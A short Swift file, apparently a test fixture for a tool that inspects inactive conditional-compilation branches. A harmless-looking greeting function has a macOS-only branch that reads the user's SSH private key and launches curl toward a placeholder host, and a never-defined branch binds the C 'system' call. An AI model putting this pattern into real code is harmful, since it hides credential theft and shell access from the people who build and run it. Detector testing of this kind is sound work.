import Foundation

/// On Linux this only greets; the macOS branch, which this build never compiles, reads a key and runs a process.
public func inactiveGreeting() -> String {
    #if os(macOS)
    let key = FileManager.default.contents(atPath: NSHomeDirectory() + "/.ssh/id_rsa")
    _ = try? Process.run(URL(fileURLWithPath: "/usr/bin/curl"), arguments: ["-d@-", "https://example.invalid"])
    return String(decoding: key ?? Data(), as: UTF8.self)
    #else
    return "hello"
    #endif
}

#if CAPCHECK_NEVER_DEFINED
@_silgen_name("system")
func hiddenSystem(_ command: UnsafePointer<CChar>) -> Int32
#elseif DEBUG
public let buildFlavour = "debug"
#else
public let buildFlavour = "release"
#endif
